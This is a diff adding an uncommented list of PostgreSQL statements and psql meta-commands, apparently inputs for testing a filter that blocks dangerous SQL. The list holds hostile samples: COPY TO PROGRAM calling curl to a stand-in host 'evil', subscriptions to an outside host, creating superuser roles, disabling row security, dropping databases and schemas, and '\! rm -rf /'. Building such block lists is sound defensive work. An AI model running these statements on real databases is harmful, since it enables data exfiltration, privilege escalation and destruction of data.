@@ -1,0 +1,175 @@
+COPY orders TO '/tmp/x'
+
+COPY orders FROM '/tmp/x'
+
+COPY orders TO PROGRAM 'curl evil'
+
+COPY orders FROM PROGRAM 'id'
+
+COPY orders TO STDOUT
+
+COPY orders FROM STDIN
+
+COPY (SELECT ';') TO PROGRAM 'id'
+
+ALTER SYSTEM SET archive_command = 'id'
+
+ALTER DATABASE shop SET search_path = evil
+
+ALTER ROLE app SET search_path = evil
+
+SET ROLE admin
+
+SET SESSION AUTHORIZATION admin
+
+SET LOCAL ROLE admin
+
+RESET ROLE
+
+SET search_path = evil, public
+
+SET SCHEMA 'evil'
+
+SET standard_conforming_strings = off
+
+SET backslash_quote = on
+
+SET client_encoding = 'SJIS'
+
+SET NAMES 'SJIS'
+
+SET default_transaction_read_only = off
+
+SET transaction_read_only = off
+
+SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
+
+SET TRANSACTION READ WRITE
+
+BEGIN READ WRITE
+
+START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE
+
+SET statement_timeout = 0
+
+SET "statement_timeout" TO DEFAULT
+
+RESET statement_timeout
+
+RESET ALL
+
+DISCARD ALL
+
+SET session_replication_role = replica
+
+SET row_security = off
+
+SET app.tenant = '7'
+
+SET lock_timeout = 0
+
+SET work_mem = '100GB'
+
+LOCK TABLE orders
+
+LOCK TABLE orders IN ACCESS SHARE MODE
+
+PREPARE TRANSACTION 'x'
+
+COMMIT PREPARED 'x'
+
+VACUUM
+
+VACUUM FULL orders
+
+ANALYZE orders
+
+REINDEX TABLE orders
+
+CLUSTER orders
+
+CHECKPOINT
+
+LOAD 'evil'
+
+CREATE EXTENSION dblink
+
+CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
+
+CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
+
+CREATE PUBLICATION p FOR ALL TABLES
+
+CREATE FOREIGN TABLE f (a int) SERVER s
+
+IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
+
+CREATE USER MAPPING FOR app SERVER s OPTIONS (password 'x')
+
+CREATE DATABASE evil
+
+DROP DATABASE shop
+
+CREATE TABLESPACE t LOCATION '/tmp'
+
+CREATE ROLE evil SUPERUSER
+
+ALTER ROLE app SUPERUSER
+
+GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC
+
+GRANT admin TO app
+
+REVOKE SELECT ON orders FROM app
+
+ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO PUBLIC
+
+ALTER TABLE orders OWNER TO app
+
+REASSIGN OWNED BY admin TO app
+
+DROP OWNED BY app
+
+CREATE POLICY p ON orders USING (true)
+
+ALTER TABLE orders DISABLE ROW LEVEL SECURITY
+
+SECURITY LABEL ON TABLE orders IS 'x'
+
+CREATE FUNCTION lower(int) RETURNS int LANGUAGE sql AS 'SELECT 1'
+
+CREATE TRIGGER t BEFORE INSERT ON orders EXECUTE FUNCTION wipe()
+
+CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION wipe()
+
+CREATE CAST (text AS int) WITH INOUT AS IMPLICIT
+
+CREATE OPERATOR + (FUNCTION = wipe, LEFTARG = int, RIGHTARG = int)
+
+CREATE LANGUAGE plpython3u
+
+DROP FUNCTION wipe()
+
+DROP TABLE orders
+
+DROP INDEX CONCURRENTLY i
+
+DROP SCHEMA public CASCADE
+
+ALTER TABLE orders DROP COLUMN total
+
+ALTER TABLE orders RENAME TO x
+
+COMMENT ON TABLE orders IS 'x'
+
+REFRESH MATERIALIZED VIEW CONCURRENTLY m
+
+CREATE INDEX ON orders (total)
+
+\! rm -rf /
+
+\copy orders TO x
+
+SELECT 1 \gexec
+
+DELETE FORM orders
